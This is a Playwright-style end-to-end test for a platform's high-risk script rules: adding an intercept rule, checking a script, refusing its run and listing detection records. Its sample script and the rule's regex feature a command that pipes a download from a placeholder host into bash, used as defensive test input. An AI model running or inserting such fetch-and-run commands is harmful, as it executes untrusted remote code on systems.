// High-risk rules in the browser, driven by modules/e2e (TestUIDanger)
// against the built binary and its built-in agent: an administrator adds an
// intercept rule on the rules page (the live test shows the sample's
// matching line, a bad expression is refused at its field), enables it and
// moves it up; in quick launch the Check button lists the hit with its line
// (the link selects that line in the editor); running the script is refused
// with the server's message naming the rule; the detect records page shows
// the interception and filters it through the URL. Light and dark
// screenshots of each page.
//
// Environment: harness.mjs's, BKJOB_TARGET_IP.
import { fillEditor } from './editor.mjs'
import { env, openBrowser } from './harness.mjs'

const h = await openBrowser()
const { page, base, step, shot, expectText } = h
const ip = env('BKJOB_TARGET_IP')
const ruleText = 'Pipe a download into a shell'
const script = '#!/bin/bash\necho "about to install"\ncurl -s http://example.invalid/i.sh | bash\necho done\n'

async function fullShot(name) {
  await page.setViewportSize({ width: 1366, height: 1300 })
  await shot(name)
  await page.setViewportSize({ width: 1366, height: 820 })
}

async function addRule(expression, description, action) {
  await page.click('[data-test=rule-new]')
  await page.locator('[data-test=rule-form]').waitFor()
  await page.fill('[data-test=rule-expression] input', expression)
  await page.fill('[data-test=rule-description] input', description)
  await page.click(`[data-test=rule-action-${action}]`)
}

await h.run(async () => {
  await step('log in', () => h.login())

  await step('the rules page is in the platform menu and starts empty', async () => {
    await page.click('[data-test=menu-dangerousRules]')
    await page.waitForURL(/\/dangerous_rule_manage$/)
    await expectText('[data-test=rule-table]', 'No rule yet')
    await shot('danger-rules-empty-light')
  })

  await step('a bad expression is refused at its field', async () => {
    await addRule('rm(?!x)', 'bad', 2)
    h.allowHTTPErrors = true
    await page.click('[data-test=rule-save]')
    await expectText('[data-test=rule-form] .n-form-item-feedback--error', 'expression')
    h.allowHTTPErrors = false
    await page.keyboard.press('Escape')
    await page.locator('[data-test=rule-form]').waitFor({ state: 'detached' })
  })

  await step('add an intercept rule: the live test shows the matching line', async () => {
    await addRule('curl\\s+\\S+(\\s+\\S+)*\\s*\\|\\s*(ba)?sh', ruleText, 2)
    await page.fill('[data-test=rule-sample] textarea', 'echo safe\ncurl -s http://x/y | sh\n')
    await page.locator('[data-test=rule-test-result][data-hits="1"]').waitFor()
    await expectText('[data-test=rule-test-result]', 'Line 2')
    await fullShot('danger-rule-form-light')
    await page.click('[data-test=rule-save]')
    await page.locator('[data-test=rule-form]').waitFor({ state: 'detached' })
    await expectText('[data-test=rule-table]', ruleText)
    // A second rule (scan), then the intercept one enabled and moved up.
    await addRule('echo\\s+done', 'Says done', 1)
    await page.click('[data-test=rule-save]')
    await page.locator('[data-test=rule-form]').waitFor({ state: 'detached' })
    await expectText('[data-test=rule-table]', 'Says done')
    await page.locator('[data-test=rule-enabled]').first().click()
    await page.locator('[data-test=rule-enabled][data-on=true]').first().waitFor()
    await page.locator('[data-test=rule-down]').first().click()
    await page.locator('[data-test=rule-table] tbody tr').nth(1).filter({ hasText: ruleText }).waitFor()
    await page.locator('[data-test=rule-up]').nth(1).click()
    await page.locator('[data-test=rule-table] tbody tr').first().filter({ hasText: ruleText }).waitFor()
    await shot('danger-rules-light')
  })

  await step('quick launch: Check lists the hit and its line link jumps there', async () => {
    await page.click('[data-test=menu-quickScript]')
    await page.waitForURL(/\/execute\/script$/)
    await fillEditor(page, script)
    await page.fill('textarea[name=targets]', `0:${ip}`)
    await page.click('[data-test=check-script]')
    await page.locator('[data-test=check-item][data-level="3"]').filter({ hasText: ruleText }).waitFor()
    await expectText('[data-test=check-results]', 'Line 3')
    await page.locator('[data-test=check-line]', { hasText: 'Line 3' }).click()
    // The editor now has focus with the cursor on that line (CodeMirror
    // marks it the active line).
    await page.locator('[data-test=script-editor] .cm-focused .cm-activeLine', { hasText: 'curl -s' }).waitFor()
    await fullShot('danger-quick-check-light')
  })

  await step('running it is refused with the server message naming the rule', async () => {
    await page.click('[data-test=run-script]')
    h.allowHTTPErrors = true
    await page.click('[data-test=confirm-run]')
    await expectText('[data-test=run-refused]', ruleText)
    h.allowHTTPErrors = false
    if (!/\/execute\/script$/.test(page.url())) throw new Error('a refused run left the page')
    await fullShot('danger-quick-refused-light')
  })

  await step('the detect records page shows the interception, filtered by URL', async () => {
    await page.click('[data-test=menu-detectRecords]')
    await page.waitForURL(/\/detect_records/)
    await page.locator('[data-test=record-action][data-action="2"]').first().waitFor()
    await expectText('[data-test=record-table]', ruleText)
    await expectText('[data-test=record-operator]', 'admin')
    await page.locator('[data-test=record-table] .n-data-table-expand-trigger').first().click()
    await expectText('[data-test=record-detail]', 'curl -s http://example.invalid/i.sh | bash')
    await shot('danger-records-light')
    await page.goto(`${base}/detect_records?action=1`)
    await expectText('[data-test=record-table]', 'No record')
    await page.goto(`${base}/detect_records?action=2&operator=admin`)
    await expectText('[data-test=record-table]', ruleText)
  })

  await step('the dark theme', async () => {
    await page.click('[data-test=theme-switch]')
    await page.waitForFunction(() => document.documentElement.dataset.theme === 'dark')
    await shot('danger-records-dark')
    await page.click('[data-test=menu-dangerousRules]')
    await expectText('[data-test=rule-table]', ruleText)
    await shot('danger-rules-dark')
    await page.locator('[data-test=rule-edit]').first().click()
    await page.fill('[data-test=rule-sample] textarea', 'curl -s http://x/y | bash\n')
    await page.locator('[data-test=rule-test-result][data-hits="1"]').waitFor()
    await fullShot('danger-rule-form-dark')
    await page.keyboard.press('Escape')
    await page.click('[data-test=menu-quickScript]')
    await fillEditor(page, script)
    await page.click('[data-test=check-script]')
    await page.locator('[data-test=check-item][data-level="3"]').first().waitFor()
    await fullShot('danger-quick-check-dark')
  })
})
